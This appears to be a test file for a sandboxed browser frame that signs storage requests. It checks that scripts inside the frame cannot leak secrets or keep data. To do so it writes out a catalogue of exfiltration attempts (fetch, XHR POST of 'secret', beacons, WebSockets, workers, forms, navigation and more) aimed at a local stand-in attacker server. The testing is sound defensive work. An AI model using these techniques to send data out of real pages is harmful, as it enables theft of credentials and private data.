@@ -1,0 +1,207 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { exampleKeys, places, useSession } from './session.ts'
+
+/** Somebody who would like to have the keys: every request that comes is a failure. */
+const received: string[] = []
+const stranger = createServer((request, response) => {
+  received.push(`${request.method} ${request.url}`)
+  response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
+})
+/** A store that sends its clients on to the stranger. */
+const redirecting = createServer((request, response) => {
+  const cors = {
+    'access-control-allow-origin': '*',
+    'access-control-allow-methods': '*',
+    'access-control-allow-headers': '*',
+  }
+  if (request.method === 'OPTIONS' || request.method === 'HEAD') response.writeHead(204, cors).end()
+  else response.writeHead(307, { ...cors, location: `${originOf(stranger)}${request.url}` }).end()
+})
+const originOf = (server: typeof stranger) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+beforeAll(async () => {
+  for (const server of [stranger, redirecting]) await once(server.listen(0, '127.0.0.1'), 'listening')
+})
+afterAll(() => {
+  for (const server of [stranger, redirecting]) {
+    server.closeAllConnections()
+    server.close()
+  }
+})
+
+/** Where an attempt would arrive. */
+const addressFor = (way: string) => `${originOf(stranger)}/${way.replaceAll(' ', '-')}`
+
+/** What a script in the sealed frame could try, if one could get there. Each says how it ended. */
+const attempts = {
+  fetch: (to: string) =>
+    fetch(to).then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  XMLHttpRequest: (to: string) =>
+    new Promise((resolve) => {
+      const request = new XMLHttpRequest()
+      request.onload = () => resolve('sent')
+      request.onerror = () => resolve('refused')
+      request.open('POST', to)
+      request.send('secret')
+    }),
+  beacon: (to: string) => void navigator.sendBeacon(to, 'secret'),
+  WebSocket: (to: string) => {
+    try {
+      new WebSocket(to.replace('http', 'ws'))
+    } catch {}
+  },
+  EventSource: (to: string) => void new EventSource(to),
+  image: (to: string) => {
+    new Image().src = to
+  },
+  style: (to: string) => {
+    document.body.setAttribute('style', `background: url(${to})`)
+    document.body.style.backgroundImage = `url(${to})`
+  },
+  script: (to: string) => void document.head.append(Object.assign(document.createElement('script'), { src: to })),
+  stylesheet: (to: string) =>
+    void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to })),
+  prefetch: (to: string) =>
+    void document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to })),
+  frame: (to: string) => void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
+  object: (to: string) => void document.body.append(Object.assign(document.createElement('object'), { data: to })),
+  worker: (to: string) => {
+    try {
+      new Worker(`data:text/javascript,fetch(${JSON.stringify(to)})`)
+    } catch {}
+  },
+  'pop-up': (to: string) => {
+    try {
+      window.open(to)
+    } catch {}
+  },
+  'navigation of the top': (to: string) => {
+    try {
+      top!.location.href = to
+    } catch {}
+  },
+  'inline script': (to: string) => {
+    document.body.append(Object.assign(document.createElement('script'), { textContent: `fetch('${to}')` }))
+  },
+  evaluation: (to: string) => {
+    try {
+      new Function('to', 'fetch(to)')(to)
+    } catch {}
+  },
+  'the page around': (to: string) => {
+    try {
+      ;(parent as unknown as { fetch(to: string): void }).fetch(to)
+    } catch {}
+  },
+}
+
+/** The same of what may leave nothing of the frame, so that each needs a page of its own. */
+const departures = {
+  form: (to: string) => {
+    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
+    document.body.append(form)
+    form.submit()
+  },
+  download: (to: string) => {
+    const link = Object.assign(document.createElement('a'), { href: to, download: 'x' })
+    document.body.append(link)
+    link.click()
+  },
+  'link to the top': (to: string) => {
+    const link = Object.assign(document.createElement('a'), { href: to, target: '_top' })
+    document.body.append(link)
+    link.click()
+  },
+  navigation: (to: string) => {
+    location.href = to
+  },
+}
+
+describe.each(places)('$name, the page from $from', ({ name, from }) => {
+  const session = useSession(name, from)
+
+  /** Waits until what was tried would have come, and sees that it has not. */
+  const settled = async () => {
+    await new Promise((resolve) => setTimeout(resolve, 500))
+    expect(received).toEqual([])
+    expect(session.visited.page.url()).toBe(session.url)
+  }
+
+  it('is sealed: nothing that a script could try sends anything', async () => {
+    // What is refused may still be told of as a request.
+    session.allow(originOf(stranger))
+    session.allow(originOf(stranger).replace('http', 'ws'))
+    await session.visited.press('Fill in an example')
+    for (const [way, attempt] of Object.entries(attempts)) {
+      const outcome = await session.visited.frame.evaluate(attempt as (to: string) => unknown, addressFor(way))
+      expect(outcome ?? 'refused', way).toBe('refused')
+    }
+    await settled()
+  })
+
+  it.each(Object.entries(departures))('is sealed: a %s sends nothing', async (way, attempt) => {
+    session.allow(originOf(stranger))
+    // A frame that is gone tells no more.
+    await session.visited.frame.evaluate(attempt, addressFor(way)).catch(() => {})
+    await settled()
+  })
+
+  it('can keep nothing: the frame has no storage of any kind', async () => {
+    const kept = await session.visited.frame.evaluate(async () => {
+      const tries: Record<string, () => unknown> = {
+        localStorage: () => localStorage.setItem('a', 'b'),
+        sessionStorage: () => sessionStorage.setItem('a', 'b'),
+        cookie: () => {
+          // biome-ignore lint/suspicious/noDocumentCookie: no store of cookies is to be had
+          document.cookie = 'a=b'
+        },
+        indexedDB: () =>
+          new Promise((resolve, reject) => {
+            const request = indexedDB.open('a')
+            request.onsuccess = resolve
+            request.onerror = reject
+          }),
+        caches: () => caches.open('a'),
+      }
+      const kept: string[] = []
+      for (const [name, store] of Object.entries(tries)) {
+        try {
+          await store()
+          kept.push(name)
+        } catch {}
+      }
+      return kept
+    })
+    expect(kept).toEqual([])
+  })
+
+  it('lets a request go to its store alone, whatever the store says', async () => {
+    session.allow(originOf(redirecting))
+    session.allow(originOf(stranger))
+    await session.fillServer(originOf(redirecting), 'bucket', exampleKeys)
+    await session.visited.fill('Key', 'a')
+    await session.visited.press('Send GET')
+    await session.visited.see('.outcome', /sent the browser on to another host, to which this page sends nothing/)
+    expect(received).toEqual([])
+  })
+
+  it('knows nothing of what the sealed frame knows, in the page around', async () => {
+    await session.visited.press('Fill in an example')
+    await session.visited.see('.url', /X-Amz-Signature/)
+    const around = await session.visited.page.evaluate(() => document.documentElement.outerHTML)
+    expect(around).not.toContain('AKIAIOSFODNN7EXAMPLE%2F')
+    const reached = await session.visited.page.evaluate(() => {
+      try {
+        return !!document.querySelector('iframe')!.contentWindow!.document
+      } catch {
+        return false
+      }
+    })
+    expect(reached).toBe(false)
+  })
+})
